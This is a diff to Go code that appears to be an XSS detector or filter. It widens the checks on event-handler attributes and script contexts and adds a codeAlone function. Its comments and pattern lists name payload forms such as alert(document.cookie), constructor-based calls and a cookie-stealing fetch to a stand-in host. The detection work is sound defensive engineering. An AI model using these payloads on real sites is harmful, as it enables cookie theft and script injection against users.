@@ -49,7 +49,7 @@ func attributeBreak(s string) (from, to int, hit bool) {
 		}
 		value, end := attributeValue(reach.from(s, k), k+1)
 		reach.read(end - k)
-		if handlerCode(value) && !(plainHandler(value) && strings.IndexByte(s[:i], '<') >= 0) {
+		if handlerCode(value) && !((plainHandler(value) || quotedAt(s, k+1) && quietCode(value)) && strings.IndexByte(s[:i], '<') >= 0 && !breaksOut(s)) {
 			start := i
 			for start > 0 && strings.IndexByte("\"'` /\t\n", s[start-1]) >= 0 {
 				start--
@@ -105,10 +105,15 @@ func scriptBreak(s string) (from, to int, hit bool) {
 		for j < len(s) && (isSpace(s[j]) || s[j] == ')' || s[j] == '}' || s[j] == ']') {
 			j++
 		}
-		if j >= len(s) || strings.IndexByte(";+-*,|&^/%?", s[j]) < 0 {
+		if j >= len(s) || strings.IndexByte(";+-*,|&^/%?", s[j]) < 0 && !(j == i+1 && (strings.HasPrefix(s[j:], "in ") || strings.HasPrefix(s[j:], "instanceof "))) {
 			continue
 		}
 		op := j
+		for _, w := range [...]string{"instanceof ", "in "} {
+			if strings.HasPrefix(s[j:], w) {
+				j += len(w)
+			}
+		}
 		for j < len(s) && (isSpace(s[j]) || strings.IndexByte(";+-*,|&^/%?(!~{[", s[j]) >= 0) {
 			j++
 		}
@@ -173,7 +178,7 @@ func bracketName(t string) bool {
 // soleCall reports a value that is nothing but a proof: alert(document.cookie).
 func soleCall(s string) bool {
 	t := strings.TrimSpace(s)
-	if proofCall(t) {
+	if proofCall(t) || codeAlone(t) {
 		return true
 	}
 	for _, w := range []string{"window", "self", "top", "globalthis", "this", "parent", "frames", "(document)", "document"} {
@@ -183,11 +188,42 @@ func soleCall(s string) bool {
 	}
 	for _, w := range []string{"alert(", "prompt(", "confirm("} {
 		if prefixFold(t, w) && strings.HasSuffix(strings.TrimRight(t, ";/ "), ")") {
-			_, hit := indexAnyFold(t, []string{"document.", "cookie", "domain", "fromcharcode", "window."})
+			_, hit := indexAnyFold(t, []string{"document.", "cookie", "domain", "fromcharcode", "window.", "(origin)", "(location)", "(name)", "(document)"})
 			return hit != ""
 		}
 	}
 	return false
+}
+
+// codeAlone reports a value that is a script as a whole, of those that prove or
+// steal: top.alert(1), [1].find(alert), fetch('//x.example/?'+document.cookie).
+func codeAlone(t string) bool {
+	if len(t) > 300 || strings.Count(t, " ") > 3 {
+		return false
+	}
+	if d := strings.TrimLeft(t, "0123456789"); d != t && d != "" && strings.IndexByte(";-+*,|&/", d[0]) >= 0 && strings.HasSuffix(t, ")") {
+		if c := strings.TrimLeft(d, ";-+*,|&/ "); prefixFold(c, "alert(") || prefixFold(c, "prompt(") || prefixFold(c, "confirm(") || prefixFold(c, "eval(") {
+			return true // 1;alert(1)
+		}
+	}
+	for _, w := range [...]string{"top.", "self.", "parent.", "globalthis.", "frames."} {
+		if prefixFold(t, w) && (prefixFold(t[len(w):], "alert(") || prefixFold(t[len(w):], "prompt(") || prefixFold(t[len(w):], "confirm(") || prefixFold(t[len(w):], "eval(")) {
+			return true
+		}
+	}
+	for _, w := range [...]string{"import('", "import(\"", "import(`", "fetch('", "fetch(\"", "fetch(`", "$.getscript('", "$.getscript(\"", "jquery.getscript("} {
+		if prefixFold(t, w) && (strings.HasPrefix(t[len(w):], "//") || prefixFold(t[len(w):], "http") || prefixFold(t[len(w):], "data:")) {
+			return true
+		}
+	}
+	if _, w := indexAnyFold(t, []string{".find(alert)", ".map(alert)", ".foreach(alert)", ".some(alert)", ".every(alert)", ",alert)", "(alert,", "onerror=eval", "onerror=alert", "function`"}); w != "" {
+		return true
+	}
+	if i := indexFold(t, "constructor("); i >= 0 && strings.Contains(t[i:], ")()") {
+		_, w := indexAnyFold(t[i:], []string{"alert", "prompt", "confirm", "eval", "fetch", "cookie"})
+		return w != ""
+	}
+	return indexFold(t, "document.cookie") > 0 && (strings.Contains(t, "//") || indexFold(t, "sendbeacon") >= 0)
 }
 
 // proofCall reports a call of alert and its like by a way that none but a proof
